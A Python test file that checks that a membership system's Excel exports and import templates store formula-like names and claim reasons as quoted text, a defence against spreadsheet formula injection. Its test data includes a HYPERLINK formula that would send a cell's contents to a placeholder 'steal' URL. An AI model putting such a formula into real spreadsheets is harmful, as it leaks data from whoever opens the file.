"""What a member typed is text in every exported sheet: a reason or a name that looks like a formula
(=HYPERLINK(…), +1, -2, @x) is written as a string with Excel's quote prefix, so it never runs — not when
the office opens the file, and not when someone edits the cell."""

from __future__ import annotations

import dataclasses
import datetime
import io
from types import SimpleNamespace

import openpyxl
import pytest

from accounts.roster import roster_template
from accounts.spreadsheets import append_row, write_cell
from reports.exports import import_template
from reports.exports.excel import branch_ledger_xlsx, quarter_detail_xlsx
from tests.factories import make_member
from tests.workflows.helpers import freeze, open_task, perform, photo
from workflows.claims import claim_approve, claim_record, claim_submit
from workflows.flows import ClaimFlow

FORMULA_LIKE = ['=HYPERLINK("http://x.example/steal?c="&A1,"点我查看")', "+1", "-2", "@x"]


def approved_claim_saying(world, member, day: datetime.date, description: str) -> None:
    claim = claim_submit(
        member=member,
        item_code="innovative-activity",
        occurred_on=day,
        description=description,
        evidence=[photo()],
        by=member.user,
    )
    perform(
        open_task(claim.process, ClaimFlow.record),
        world.clerk_a,
        lambda **kw: claim_record(claim=claim, **kw),
    )
    perform(
        open_task(claim.process, ClaimFlow.review),
        world.committee_a,
        lambda **kw: claim_approve(claim=claim, **kw),
    )


def cells_holding(content: bytes, texts: list[str]) -> dict[str, list]:
    """Every cell, on every sheet, whose value is one of ``texts``."""
    found: dict[str, list] = {text: [] for text in texts}
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in found:
                    found[cell.value].append(cell)
    return found


def assert_written_as_text(cells: list) -> None:
    assert cells, "the text is in the sheet"
    for cell in cells:
        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate


def test_a_claim_reason_that_looks_like_a_formula_is_text_in_the_detail_sheet(world, rules_2026, monkeypatch):
    freeze(monkeypatch, 2026, 3, 20, 10)
    for day, text in enumerate(FORMULA_LIKE, 2):
        approved_claim_saying(world, world.member_a, datetime.date(2026, 3, day), text)

    found = cells_holding(quarter_detail_xlsx(world.member_a, "2026-Q1"), FORMULA_LIKE)

    for text in FORMULA_LIKE:
        assert_written_as_text(found[text])


@pytest.mark.parametrize("name", FORMULA_LIKE)
def test_a_name_that_looks_like_a_formula_is_text_in_the_branch_ledger(world, rules_2026, monkeypatch, name):
    freeze(monkeypatch, 2026, 3, 20, 10)
    make_member(branch=world.branch_a, real_name=name)

    found = cells_holding(branch_ledger_xlsx(world.branch_a, "2026-Q1"), [name])

    assert_written_as_text(found[name])


def test_the_shared_writer_keeps_text_as_text_and_leaves_numbers_and_plain_text_alone():
    sheet = openpyxl.Workbook().active
    append_row(sheet, [*FORMULA_LIKE, 3, "张伟", None])
    header = write_cell(sheet, row=2, column=1, value="=1+2")

    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet[1]] == [
        *((text, "s", True) for text in FORMULA_LIKE),
        (3, "n", False),
        ("张伟", "s", False),
        (None, "n", False),
    ]
    assert (header.value, header.data_type, header.quotePrefix) == ("=1+2", "s", True)


def test_the_import_templates_write_the_branchs_own_text_as_text(world, rules_2026, monkeypatch):
    """The 签到表 template lists the branch's items by name and description; the roster template shows a
    branch code."""
    real_rules_on = import_template.rules_on

    def items_named_like_formulas(branch, day):
        version, rules = real_rules_on(branch, day)
        items = [dataclasses.replace(item, name=f"={item.code}", description="@说明") for item in rules.items]
        return version, SimpleNamespace(items=items)

    monkeypatch.setattr(import_template, "rules_on", items_named_like_formulas)
    content = import_template.attendance_template(branch=world.branch_a, today=datetime.date(2026, 3, 20))
    found = cells_holding(content, ["=branch-meeting", "@说明"])
    assert_written_as_text(found["=branch-meeting"])
    assert_written_as_text(found["@说明"])

    found = cells_holding(roster_template(example_branch_code="+C01"), ["+C01"])
    assert_written_as_text(found["+C01"])
